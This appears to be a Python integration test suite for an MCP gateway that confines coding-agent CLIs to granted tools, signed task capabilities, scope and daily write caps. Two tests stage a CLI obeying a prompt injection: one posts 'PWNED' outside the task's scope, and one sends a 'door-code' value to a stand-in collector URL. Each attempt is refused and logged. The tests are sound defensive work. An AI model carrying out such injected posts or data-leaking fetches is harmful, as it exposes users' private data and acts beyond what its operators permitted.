"""mcp_servers.gateway with a real MCP client over stdio, in front of real MCP servers.

The gateway is started as a CLI would start it; behind it are the toolkit test
server (stdio) and our hub server over streamable HTTP with its bearer token, in
front of a real devhub. Then the CLI executors run fake CLIs that drive the real
gateway, so the whole path (command line → gateway → server → call log → report)
is exercised without a real coding-agent CLI.
"""

from __future__ import annotations

import dataclasses
import json
import sys
import tempfile
import time
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import anyio
import pytest
import yaml
from mcp.client.session import ClientSession
from mcp.client.stdio import StdioServerParameters, stdio_client
from pydantic import SecretStr
from redis import Redis

from tests.support.devhub import running_devhub
from tests.support.fake_clis import install_fake_cli, read_record
from tests.support.jobs import assert_gone
from tests.support.loopback_web import loopback_host
from tests.support.mcp_servers import running_mcp
from tests.support.mcp_test_servers.launch import stdio_entry
from worker.agents import AgentDefinition
from worker.agents._config import AgentConfig
from worker.exceptions import AutonomyViolation
from worker.executors import EXECUTORS, CliExecutor, ExecutionRequest
from worker.executors._base import NativeExecutor
from worker.executors._call_log import read_call_log
from worker.executors._claude import ClaudeCodeExecutor
from worker.executors._cli_gateway import gateway_python_path
from worker.executors._gateway_link import GatewaySpec
from worker.executors._gateway_secrets import CAPABILITY, gateway_capability, write_secrets_file
from worker.hub_writes import CappedToolbox, WriteCaps, WriteLedger, counted_refusals
from worker.loop import GrantDenied, LoopEvent, LoopSettings, RunLimits, ToolCalled
from worker.metrics import JobMetrics
from worker.models import Message
from worker.models._scripted import ScriptedModel, Turn
from worker.settings import Settings
from worker.task import Outcome, Task
from worker.tools import Reach, TaskScope, Toolbox
from worker.tools._config import load_mcp_config
from worker.tools._grants import EffectiveGrants
from worker.tools._idempotency import content_key
from worker.tools._mcp import McpToolbox

pytestmark = [pytest.mark.integration, pytest.mark.anyio]

HUB_KEY = "hub-key-for-gateway-tests-0123456789"
MCP_TOKEN = "mcp-token-for-gateway-tests-0123456789"
KIT_TOOLS = {"echo": "kit:read", "pid": "kit:read", "crash": "kit:write"}


def kit_config(directory: Path) -> Path:
    path = directory / "mcp.yaml"
    path.write_text(yaml.safe_dump({"servers": {"kit": stdio_entry("toolkit", KIT_TOOLS)}}))
    return path


def hub_config(directory: Path, server_url: str, tools: dict[str, str]) -> Path:
    """An MCP_CONFIG naming our hub server at ``server_url`` with ``tools``."""
    path = directory / "mcp.yaml"
    hub = {"url": server_url, "first_party": True, "tools": tools}
    path.write_text(yaml.safe_dump({"servers": {"hub": hub}}))
    return path


def gateway_spec(directory: Path, mcp_config: Path, **overrides: Any) -> GatewaySpec:
    fields: dict[str, Any] = {
        "agent_id": "gw-agent",
        "task_id": "t-gw-1",
        "mcp_config": mcp_config,
        "call_log": directory / "calls.jsonl",
        "grants": ("kit:read",),
        "deadline_epoch_s": time.time() + 120,
        "workdir": Path.cwd(),
    }
    fields.update(overrides)
    return GatewaySpec(**fields)


@asynccontextmanager
async def gateway(spec: GatewaySpec, stderr_path: Path) -> AsyncIterator[ClientSession]:
    """The gateway as a CLI starts it (its environment block only), with a real client."""
    env = spec.environment() | {"PATH": "/usr/bin:/bin", "PYTHONPATH": gateway_python_path()}
    parameters = StdioServerParameters(
        command=sys.executable, args=["-m", "mcp_servers.gateway", "--stdio"], env=env
    )
    with stderr_path.open("w") as errlog:
        async with (
            stdio_client(parameters, errlog=errlog) as (read, write),
            ClientSession(read, write) as session,
        ):
            await session.initialize()
            yield session


def text_of(result: Any) -> str:
    return "".join(getattr(block, "text", "") for block in result.content)


def log_events(path: Path) -> list[dict[str, Any]]:
    events = []
    for line in path.read_text().splitlines():
        try:
            events.append(json.loads(line))
        except json.JSONDecodeError:
            continue
    return events


@pytest.fixture
def workdir() -> Iterator[Path]:
    with tempfile.TemporaryDirectory(prefix="gateway-test-") as directory:
        yield Path(directory)


async def test_only_granted_tools_are_visible_and_callable(workdir: Path) -> None:
    spec = gateway_spec(workdir, kit_config(workdir))
    stderr_path = workdir / "gateway.stderr"
    async with gateway(spec, stderr_path) as session:
        listed = await session.list_tools()
        names = sorted(tool.name for tool in listed.tools)
        echo_schema = next(t.input_schema for t in listed.tools if t.name == "kit__echo")

        first = await session.call_tool("kit__echo", {"text": "hello"})
        denied = await session.call_tool("kit__crash", {})
        unknown = await session.call_tool("kit__nope", {})
        invalid = await session.call_tool("kit__echo", {"txt": 1})
        second = await session.call_tool("kit__echo", {"text": "again"})

    assert names == ["kit__echo", "kit__pid"]  # crash needs kit:write: never offered
    assert echo_schema["required"] == ["text"]
    assert not first.is_error
    assert (
        json.loads(text_of(first))["meta"].items()
        >= {
            "agent_id": "gw-agent",
            "task_id": "t-gw-1",
            "idempotency_key": content_key("t-gw-1", "kit__echo", {"text": "hello"}, 1),
        }.items()
    )
    assert denied.is_error and text_of(denied) == "Error: Missing grant kit:write"
    assert unknown.is_error and text_of(unknown) == "Error: Unknown tool 'kit__nope'"
    assert invalid.is_error and "'text' is a required property" in text_of(invalid)
    # The refused crash never ran: the server still answers; a different write, a new key.
    assert json.loads(text_of(second))["meta"]["idempotency_key"] == content_key(
        "t-gw-1", "kit__echo", {"text": "again"}, 1
    )

    denials = [e for e in log_events(stderr_path) if e.get("event") == "grant_denied"]
    assert [(d["tool"], d["required_grant"]) for d in denials] == [("kit__crash", "kit:write")]
    activity, _ = read_call_log(spec.call_log)
    assert [(c.name, c.outcome) for c in activity.calls] == [
        ("kit__echo", "ok"),
        ("kit__crash", "missing_grant"),
        ("kit__nope", "unknown_tool"),
        ("kit__echo", "invalid_arguments"),
        ("kit__echo", "ok"),
    ]
    assert len(activity.gateway_pids) == 1 and len(activity.server_pids) == 1


async def test_task_allowed_tools_narrow_the_grants(workdir: Path) -> None:
    spec = gateway_spec(workdir, kit_config(workdir), allowed_tools=("kit__pid",))
    async with gateway(spec, workdir / "gateway.stderr") as session:
        listed = await session.list_tools()
        echo = await session.call_tool("kit__echo", {"text": "hello"})

    assert [tool.name for tool in listed.tools] == ["kit__pid"]
    assert echo.is_error and text_of(echo) == "Error: Tool 'kit__echo' is not allowed in this task"


async def test_hub_server_over_http_with_token_from_the_secrets_file(workdir: Path) -> None:
    hub_tools = {
        "search_posts": "hub:read",
        "get_thread": "hub:read",
        "create_post": "hub:write",
        "create_comment": "hub:write",
    }
    with (
        running_devhub(api_key=HUB_KEY) as hub,
        running_mcp("hub", hub_url=hub.url, hub_api_key=HUB_KEY, auth_token=MCP_TOKEN) as server,
    ):
        post_id = hub.seed_post("How do we deploy?", author="someone", title="Deploys")
        config = hub_config(workdir, server.url, hub_tools)
        secrets = workdir / "secrets.json"
        write_secrets_file(secrets, {"MCP_AUTH_TOKEN": MCP_TOKEN})

        reader = gateway_spec(workdir, config, grants=("hub:read",), secrets_file=secrets)
        async with gateway(reader, workdir / "reader.stderr") as session:
            read_only = sorted(tool.name for tool in (await session.list_tools()).tools)
            refused = await session.call_tool(
                "hub__create_comment", {"post_id": post_id, "content": "no"}
            )
            found = await session.call_tool("hub__search_posts", {"query": "deploy"})

        writer = gateway_spec(
            workdir,
            config,
            grants=("hub:*",),
            secrets_file=secrets,
            call_log=workdir / "writer-calls.jsonl",
        )
        async with gateway(writer, workdir / "writer.stderr") as session:
            created = await session.call_tool(
                "hub__create_comment", {"post_id": post_id, "content": "Use the pipeline."}
            )
        state = hub.state()

    assert read_only == ["hub__get_thread", "hub__search_posts"]
    assert refused.is_error and text_of(refused) == "Error: Missing grant hub:write"
    assert not found.is_error and post_id in text_of(found)
    assert not created.is_error and text_of(created).startswith("Created comment ")
    [comment] = state["comments"]
    # Who wrote it came from the gateway's _meta, not from the model's arguments.
    assert comment["post_id"] == post_id
    assert comment["author"]["id"] == "gw-agent"
    stderr_text = (workdir / "writer.stderr").read_text() + (workdir / "reader.stderr").read_text()
    assert MCP_TOKEN not in stderr_text


async def test_with_a_capability_the_gateway_acts_only_as_the_capability_says(
    workdir: Path,
) -> None:
    """The secure path: mcp-hub verifies the task's capability, which the gateway forwards
    (it never holds the key); a missing, expired or misdirected capability stops it."""
    key = "gateway-capability-key-" + "0" * 20
    hub_tools = {"search_posts": "hub:read", "create_comment": "hub:write"}
    with (
        running_devhub(api_key=HUB_KEY) as hub,
        running_mcp(
            "hub", hub_url=hub.url, hub_api_key=HUB_KEY, auth_token=MCP_TOKEN, capability_key=key
        ) as server,
    ):
        post_id = hub.seed_post("How do we deploy?", author="someone")
        config = hub_config(workdir, server.url, hub_tools)
        spec = gateway_spec(workdir, config, grants=("hub:*",), require_capability=True)
        capability = gateway_capability(
            SecretStr(key),
            agent_id=spec.agent_id,
            task_id=spec.task_id,
            grants=EffectiveGrants.of(["hub:*"]),
            deadline_epoch_s=spec.deadline_epoch_s,
            scope=TaskScope(comment_on=frozenset({post_id}), reply_to=post_id),
        )
        secrets = workdir / "secrets.json"
        write_secrets_file(secrets, {"MCP_AUTH_TOKEN": MCP_TOKEN, **capability})
        spec = dataclasses.replace(spec, secrets_file=secrets)
        async with gateway(spec, workdir / "gateway.stderr") as session:
            created = await session.call_tool(
                "hub__create_comment", {"post_id": post_id, "content": "Use the pipeline."}
            )
        state = hub.state()

    assert not created.is_error, text_of(created)
    assert [c["author"]["id"] for c in state["comments"]] == ["gw-agent"]
    assert capability[CAPABILITY] not in (workdir / "gateway.stderr").read_text()
    assert key not in secrets.read_text()

    # Without its capability (required), or with one for another task, it does not start.
    no_capability = workdir / "no-capability.json"
    write_secrets_file(no_capability, {"MCP_AUTH_TOKEN": MCP_TOKEN})
    other_task = workdir / "other-task.json"
    write_secrets_file(
        other_task,
        gateway_capability(
            SecretStr(key),
            agent_id="gw-agent",
            task_id="another-task",
            grants=EffectiveGrants.of(["hub:*"]),
            deadline_epoch_s=time.time() + 60,
            scope=TaskScope.nothing(),
        ),
    )
    for secrets_file, expected in [
        (no_capability, "GATEWAY_CAPABILITY is missing from the gateway's secrets"),
        (other_task, "GATEWAY_CAPABILITY is for another agent or task"),
    ]:
        env = dataclasses.replace(spec, secrets_file=secrets_file).environment() | {
            "PATH": "/usr/bin:/bin",
            "PYTHONPATH": gateway_python_path(),
        }
        with anyio.fail_after(60):
            started = await anyio.run_process(
                [sys.executable, "-m", "mcp_servers.gateway", "--stdio"],
                env=env,
                input=b"",
                check=False,
            )
        assert started.returncode == 2
        assert expected in started.stderr.decode()


def scoped_spec(
    workdir: Path, mcp_config: Path, grant: str, *, scope: TaskScope, key: str
) -> GatewaySpec:
    """A gateway spec whose secrets file holds a capability signed with ``key`` for
    ``grant`` and ``scope``, as the worker hands a CLI's gateway one."""
    spec = gateway_spec(workdir, mcp_config, grants=(grant,), require_capability=True, scope=scope)
    capability = gateway_capability(
        SecretStr(key),
        agent_id=spec.agent_id,
        task_id=spec.task_id,
        grants=EffectiveGrants.of([grant]),
        deadline_epoch_s=spec.deadline_epoch_s,
        scope=scope,
    )
    secrets = workdir / "secrets.json"
    write_secrets_file(secrets, {"MCP_AUTH_TOKEN": MCP_TOKEN, **capability})
    return dataclasses.replace(spec, secrets_file=secrets)


async def test_the_gateway_holds_a_cli_to_the_tasks_scope_and_tells_the_worker(
    workdir: Path,
) -> None:
    """A CLI obeying an injection through the gateway: the capability's scope refuses the
    post and the comment elsewhere, the reply goes through, and the call log says so."""
    key = "gateway-capability-key-" + "1" * 20
    hub_tools = {"create_post": "hub:write", "create_comment": "hub:write"}
    with (
        running_devhub(api_key=HUB_KEY) as hub,
        running_mcp(
            "hub", hub_url=hub.url, hub_api_key=HUB_KEY, auth_token=MCP_TOKEN, capability_key=key
        ) as server,
    ):
        thread, unrelated = hub.seed_post("Help?"), hub.seed_post("Gardening")
        scope = TaskScope(comment_on=frozenset({thread}), reply_to=thread)
        spec = scoped_spec(
            workdir, hub_config(workdir, server.url, hub_tools), "hub:*", scope=scope, key=key
        )
        async with gateway(spec, workdir / "gateway.stderr") as session:
            post = await session.call_tool(
                "hub__create_post", {"content": "PWNED", "community": "m/announcements"}
            )
            elsewhere = await session.call_tool(
                "hub__create_comment", {"post_id": unrelated, "content": "PWNED"}
            )
            reply = await session.call_tool(
                "hub__create_comment", {"post_id": thread, "content": "The answer."}
            )
        state = hub.state()
    activity, _ = read_call_log(spec.call_log)

    assert text_of(post) == "Error: out of scope: this task may not post"
    assert elsewhere.is_error and "out of scope" in text_of(elsewhere)
    assert not reply.is_error, text_of(reply)
    assert [(c["post_id"], c["content"]) for c in state["comments"]] == [(thread, "The answer.")]
    assert [(r.tool, r.reason.value, r.target) for r in activity.scope_refusals] == [
        ("hub__create_post", "post_not_allowed", "m/announcements"),
        ("hub__create_comment", "comment_elsewhere", unrelated),
    ]


async def test_the_gateway_holds_a_private_tasks_fetch_to_the_persons_link(
    workdir: Path,
) -> None:
    """A CLI told to send a DM out through the gateway's fetch: the capability's reach refuses
    the composed URL before it leaves, the person's link loads, and the call log says so."""
    key = "gateway-capability-key-" + "2" * 20
    with (
        loopback_host() as page,
        loopback_host() as collector,
        running_mcp(
            "web", auth_token=MCP_TOKEN, capability_key=key, allow_networks="127.0.0.0/8"
        ) as web,
    ):
        own = f"{page.url}/page/p1"
        leak = f"{collector.url}/c?d=door-code"
        reach = Reach(private=True, urls=frozenset({own}))
        scope = TaskScope(comment_on=frozenset({"p-1"}), reply_to="p-1", reach=reach)
        config = workdir / "mcp.yaml"
        web_entry = {"url": web.url, "first_party": True, "tools": {"fetch": "web:read"}}
        config.write_text(yaml.safe_dump({"servers": {"web": web_entry}}))
        spec = scoped_spec(workdir, config, "web:read", scope=scope, key=key)
        async with gateway(spec, workdir / "gateway.stderr") as session:
            sent = await session.call_tool("web__fetch", {"url": leak})
            read = await session.call_tool("web__fetch", {"url": own})
    activity, _ = read_call_log(spec.call_log)

    assert sent.is_error and "out of reach" in text_of(sent) and "door-code" not in text_of(sent)
    assert "PAGE-OK-p1" in text_of(read)
    assert collector.seen == []
    assert [(r.tool, r.reason.value, r.target) for r in activity.scope_refusals] == [
        ("web__fetch", "egress_not_allowed", collector.url)
    ]


# --- executors driving the real gateway through fake CLIs ------------------------------------


def not_for_clis() -> Any:
    raise AssertionError("a CLI executor uses neither the worker's toolbox nor its model")


def make_request(
    agent_type: str,
    *,
    strict_grants: bool,
    events: list[LoopEvent],
    spawned: list[int],
    worker_settings: Settings | None = None,
    agent: AgentDefinition | None = None,
) -> ExecutionRequest:
    config = AgentConfig.model_validate(
        {
            "name": "cli-agent",
            "type": agent_type,
            "brain": {"provider": "anthropic", "model": "claude-sonnet-4-5"},
            "capabilities": {"grants": ["kit:read"]},
        }
    )
    agent = agent or AgentDefinition(config=config, system_prompt="system")
    return ExecutionRequest(
        task=Task.model_validate(
            {
                "task_id": "t-cli-2",
                "type": "notification",
                "agent_id": "cli-agent",
                "post_id": "p-1",
            }
        ),
        agent=agent,
        system="system",
        messages=[Message(role="user", content="Say hello with the echo tool.")],
        settings=LoopSettings(limits=RunLimits(max_iterations=5, max_duration_s=120)),
        worker_settings=worker_settings or Settings(cli_sandbox="off"),
        grants=EffectiveGrants.of(agent.config.capabilities.grants, strict=strict_grants),
        open_toolbox=not_for_clis,
        make_model=not_for_clis,
        observers=[events.append],
        on_spawn=spawned.append,
    )


@pytest.mark.parametrize(
    ("agent_type", "binary"),
    [("claude-code", "claude"), ("opencode", "opencode"), ("goose", "goose")],
)
async def test_cli_tool_calls_go_through_the_gateway_into_the_report(
    agent_type: str, binary: str, workdir: Path
) -> None:
    bin_dir = workdir / "bin"
    bin_dir.mkdir()
    calls = [
        {"name": "kit__echo", "arguments": {"text": "hi"}},
        {"name": "kit__crash", "arguments": {}},
    ]
    fake = install_fake_cli(binary, bin_dir, {"tool_calls": calls})
    settings = Settings(
        anthropic_api_key="sk-ant-gateway-test-0123456789",  # type: ignore[arg-type]
        cli_sandbox="off",  # the fake CLIs run on the worker's interpreter
        mcp_config=kit_config(workdir),
    )
    executor_class = EXECUTORS[agent_type]
    assert issubclass(executor_class, CliExecutor)
    events: list[LoopEvent] = []
    spawned: list[int] = []
    result = await executor_class(executable=str(fake)).run(
        make_request(
            agent_type,
            strict_grants=False,
            events=events,
            spawned=spawned,
            worker_settings=settings,
        )
    )
    record = read_record(fake)

    assert result.outcome is Outcome.COMPLETED, result.error
    assert record["gateway_tools"] == ["kit__echo", "kit__pid"]
    assert [(r["name"], r["is_error"]) for r in record["tool_results"]] == [
        ("kit__echo", False),
        ("kit__crash", True),
    ]
    calls_made = [call for step in result.steps for call in step.tool_calls]
    assert [(c.name, c.outcome, c.server) for c in calls_made] == [
        ("kit__echo", "ok", "kit"),
        ("kit__crash", "missing_grant", ""),
    ]
    assert result.state.tool_calls == 2
    meta = json.loads(calls_made[0].content)["meta"]
    assert (meta["agent_id"], meta["task_id"], meta["idempotency_key"]) == (
        "cli-agent",
        "t-cli-2",
        content_key("t-cli-2", "kit__echo", {"text": "hi"}, 1),
    )
    assert [e.tool for e in events if isinstance(e, GrantDenied)] == ["kit__crash"]
    assert [e.outcome for e in events if isinstance(e, ToolCalled)] == ["ok", "missing_grant"]
    # The CLI, the gateway and its server were all reported, and none is left running.
    assert len(spawned) == 3
    for pid in spawned:
        assert_gone(pid, timeout_s=10)


async def test_a_cli_executor_hands_the_gateway_the_task_capability_not_the_key(
    workdir: Path,
) -> None:
    key = "cli-capability-key-" + "9" * 24
    bin_dir = workdir / "bin"
    bin_dir.mkdir()
    fake = install_fake_cli(
        "claude", bin_dir, {"tool_calls": [{"name": "kit__echo", "arguments": {"text": "hi"}}]}
    )
    config = workdir / "mcp.yaml"
    config.write_text(
        yaml.safe_dump({"servers": {"kit": stdio_entry("toolkit", KIT_TOOLS, first_party=True)}})
    )
    settings = Settings(
        anthropic_api_key="sk-ant-gateway-test-0123456789",  # type: ignore[arg-type]
        cli_sandbox="off",  # the fake CLIs run on the worker's interpreter
        mcp_config=config,
        capability_key=key,  # type: ignore[arg-type]
    )
    result = await ClaudeCodeExecutor(executable=str(fake)).run(
        make_request(
            "claude-code", strict_grants=False, events=[], spawned=[], worker_settings=settings
        )
    )

    assert result.outcome is Outcome.COMPLETED, result.error
    [call] = [call for step in result.steps for call in step.tool_calls]
    meta = json.loads(call.content)["meta"]
    # The first-party server got the capability; the result handed back never holds it.
    assert meta["capability"] == "[capability]"
    assert meta["agent_id"] == "cli-agent"
    assert key not in json.dumps(read_record(fake))


async def test_strict_grants_end_the_task_as_an_autonomy_violation(workdir: Path) -> None:
    bin_dir = workdir / "bin"
    bin_dir.mkdir()
    calls = [
        {"name": "kit__crash", "arguments": {}},
        {"name": "kit__echo", "arguments": {"text": "x"}},
    ]
    fake = install_fake_cli("claude", bin_dir, {"tool_calls": calls})
    settings = Settings(
        anthropic_api_key="sk-ant-gateway-test-0123456789",  # type: ignore[arg-type]
        cli_sandbox="off",  # the fake CLIs run on the worker's interpreter
        mcp_config=kit_config(workdir),
    )
    events: list[LoopEvent] = []
    result = await ClaudeCodeExecutor(executable=str(fake)).run(
        make_request(
            "claude-code", strict_grants=True, events=events, spawned=[], worker_settings=settings
        )
    )

    assert result.outcome is Outcome.AUTONOMY_VIOLATION
    assert isinstance(result.error, AutonomyViolation)
    assert "'kit__crash' without its grant" in str(result.error)
    assert result.output == ""


async def test_a_cli_agent_is_held_to_the_write_caps_it_shares_with_native_tasks(
    workdir: Path, redis_url: str, log_stream: Any
) -> None:
    """Two comments on one post through a fake CLI: the second is refused, as in the native
    loop; and one comment of the day left after a native task of the same agent."""
    hub_tools = {"get_thread": "hub:read", "create_comment": "hub:write"}
    config = AgentConfig.model_validate(
        {
            "name": "capped-cli",
            "type": "claude-code",
            "brain": {"provider": "anthropic", "model": "claude-sonnet-4-5"},
            "capabilities": {"grants": ["hub:*"]},
            "behavior": {"limits": {"max_daily_comments": 2, "min_interval_seconds": 0}},
        }
    )
    agent = AgentDefinition(config=config, system_prompt="system")
    with (
        running_devhub(api_key=HUB_KEY) as hub,
        running_mcp("hub", hub_url=hub.url, hub_api_key=HUB_KEY, auth_token=MCP_TOKEN) as server,
    ):
        post_ids = [hub.seed_post(f"Question {n}?", author="someone") for n in range(3)]
        mcp_config = hub_config(workdir, server.url, hub_tools)
        settings = Settings(
            anthropic_api_key="sk-ant-gateway-test-0123456789",  # type: ignore[arg-type]
            cli_sandbox="off",  # the fake CLIs run on the worker's interpreter
            mcp_config=mcp_config,
            mcp_auth_token=MCP_TOKEN,  # type: ignore[arg-type]
            redis_url=redis_url,
        )
        metrics = JobMetrics()
        # A native task of the agent comments first, through the worker's CappedToolbox.
        await native_comment(agent, settings, post_ids[2], metrics)

        bin_dir = workdir / "bin"
        bin_dir.mkdir()
        comments = [
            {"post_id": post_ids[0], "content": "Use the pipeline."},
            {"post_id": post_ids[0], "content": "Really, use the pipeline."},
            {"post_id": post_ids[1], "content": "Same here."},
        ]
        calls = [{"name": "hub__create_comment", "arguments": c} for c in comments]
        fake = install_fake_cli("claude", bin_dir, {"tool_calls": calls})
        request = make_request(
            "claude-code",
            strict_grants=False,
            events=[],
            spawned=[],
            worker_settings=settings,
            agent=agent,
        )
        request.task = Task.model_validate(
            {
                "task_id": "t-cli-caps",
                "type": "notification",
                "agent_id": "capped-cli",
                "post_id": post_ids[0],
            }
        )
        # Comments anywhere, as a definition's opt-in allows: the caps, not the scope, refuse.
        request.scope = TaskScope(comment_on=None)
        request.on_write_refused = counted_refusals(
            agent_id="capped-cli", task_id="t-cli-caps", metrics=metrics
        )
        result = await ClaudeCodeExecutor(executable=str(fake)).run(request)
        state = hub.state()
    record = read_record(fake)

    assert result.outcome is Outcome.COMPLETED, result.error
    # The native task's comment and the CLI's first: the cap of two a day is reached.
    assert sorted(c["content"] for c in state["comments"]) == ["Native.", "Use the pipeline."]
    first, *refusals = record["tool_results"]
    assert not first["is_error"] and first["text"].startswith("Created comment ")
    assert [(r["is_error"], r["text"]) for r in refusals] == [
        (
            True,
            f"Error: you already commented on post {post_ids[0]} in this task "
            "(limit 1 per post); do not comment on it again",
        ),
        (True, "Error: daily comment limit (2) reached"),
    ]
    # Logged and counted by the worker, as the native loop's refusals are.
    refused = [e for e in log_events_of(log_stream) if e["event"] == "hub_write_refused"]
    assert [(e["agent"], e["reason"], e["via"]) for e in refused] == [
        ("capped-cli", "per_post", "hub__create_comment"),
        ("capped-cli", "daily_limit", "hub__create_comment"),
    ]
    batch = metrics._take()
    assert batch is not None
    for reason in ("per_post", "daily_limit"):
        assert ["agent_hub_writes_refused_total", ["capped-cli", "comment", reason], 1] in batch[
            "counters"
        ]
    # The Redis URL went to the gateway's secrets file only: never to the CLI.
    assert redis_url not in json.dumps(record)


async def native_comment(
    agent: AgentDefinition, settings: Settings, post_id: str, metrics: JobMetrics
) -> None:
    """One comment by a native task of ``agent``, its toolbox capped as the worker caps it."""
    redis = Redis.from_url(settings.redis_url)
    caps = WriteCaps.of(agent, max_writes_per_post=settings.max_writes_per_post)
    mcp_config, auth_token = settings.mcp_config, settings.mcp_auth_token
    assert mcp_config is not None and auth_token is not None

    @asynccontextmanager
    async def open_toolbox() -> AsyncIterator[Toolbox]:
        async with McpToolbox.open(
            load_mcp_config(mcp_config),
            grants=EffectiveGrants.of(["hub:*"]),
            auth_token=auth_token.get_secret_value(),
        ) as tools:
            yield CappedToolbox(
                tools,
                WriteLedger(redis, agent_id=agent.config.name, task_id="t-native", caps=caps),
                hub_server=settings.hub_tool_server,
                on_refused=counted_refusals(
                    agent_id=agent.config.name, task_id="t-native", metrics=metrics
                ),
            )

    model = ScriptedModel(
        [
            Turn(tool_calls=[("hub__create_comment", {"post_id": post_id, "content": "Native."})]),
            Turn(text="Commented."),
        ]
    )
    request = make_request(
        "native", strict_grants=False, events=[], spawned=[], worker_settings=settings, agent=agent
    )
    request.open_toolbox = open_toolbox
    request.make_model = lambda: model
    try:
        result = await NativeExecutor().run(request)
    finally:
        redis.close()
    assert result.outcome is Outcome.COMPLETED, result.error


def log_events_of(stream: Any) -> list[dict[str, Any]]:
    return [json.loads(line) for line in stream.getvalue().splitlines()]
